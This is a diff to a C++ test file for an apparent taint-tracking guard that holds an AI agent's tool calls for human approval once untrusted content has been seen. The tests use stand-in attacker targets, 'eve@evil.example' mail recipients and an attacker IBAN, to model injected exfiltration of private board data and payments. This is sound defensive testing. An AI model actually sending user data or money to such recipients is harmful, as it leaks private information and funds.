@@ -39,9 +39,11 @@ TEST_CASE("question: a value that nothing proves is put to a person, with where 
   CHECK(o.sink.last().find(R"("outcome":"ran")") != std::string::npos);
 }
 
-TEST_CASE("question: a yes vouches for the value, in this argument of this tool") {
+TEST_CASE(
+    "question: a yes vouches for the values together, in these arguments of this tool, where nothing private is") {
   office<asking> o;
-  auto chat = o.tainted("Write to the client");
+  auto chat = o.open("Write to the client");
+  chat.observe_untrusted();
   const auto asked = chat.call({"1", "send_mail", to_eve});
   REQUIRE(asked.pending());
   REQUIRE(chat.resume(asked.question().token, cr::answer::yes()).ran());
@@ -50,6 +52,41 @@ TEST_CASE("question: a yes vouches for the value, in this argument of this tool"
   CHECK(why(chat.call({"4", "add_event", R"({"title":"t","guests":["eve@evil.example"]})"})) ==
         cr::reason::unproven_value);
   CHECK(chat.call({"5", "send_mail", R"({"to":["eve@evil.example"],"cc":["eve@evil.example"],"body":"x"})"}).pending());
+  // Private data can be in the body now: the yes to an address was no yes to that.
+  chat.observe(cr::label{cr::integrity::user, cr::confidentiality::confidential});
+  CHECK(chat.call({"6", "send_mail", R"({"to":["eve@evil.example"],"body":"another"})"}).pending());
+}
+
+TEST_CASE("question: money is asked for each time, and two yeses are no yes to their mixture") {
+  office<asking> o;
+  auto chat = o.open("Pay what is due");
+  chat.observe_untrusted();
+  const auto pay = [&](std::string_view to, std::string_view amount) {
+    return chat.call({"1", "pay", R"({"payee":")" + std::string(to) + R"(","amount":)" + std::string(amount) + "}"});
+  };
+  const auto small = pay(iban_of_eve, "5");
+  REQUIRE(small.pending());
+  REQUIRE(chat.resume(small.question().token, cr::answer::yes()).ran());
+  const auto large = pay(iban_of_user, "9000");
+  REQUIRE(large.pending());
+  REQUIRE(chat.resume(large.question().token, cr::answer::yes()).ran());
+  CHECK(pay(iban_of_eve, "9000").pending());
+  CHECK(pay(iban_of_eve, "5").pending());
+  CHECK(o.ran.size() == 2);
+}
+
+TEST_CASE("question: shows what would run, with what is behind handles") {
+  office<asking> o;
+  o.board = "PRIVATE";
+  auto chat = o.open("x");
+  static_cast<void>(chat.call({"1", "read_board", "{}"}).hide(chat));
+  chat.observe_untrusted();
+  const auto asked =
+      chat.call({"2", "send_mail", R"({ "body" : {"$ref":"h1"}, "to":["\u0065ve@evil.example"], "cc":null})"});
+  REQUIRE(asked.pending());
+  CHECK(asked.question().arguments == R"({"to":["eve@evil.example"],"body":"PRIVATE"})");
+  CHECK(chat.resume(asked.question().token, cr::answer::yes()).ran());
+  CHECK(o.ran.back() == "mail eve@evil.example: PRIVATE");
 }
 
 TEST_CASE("question: a token is used once, by the right conversation, in time") {
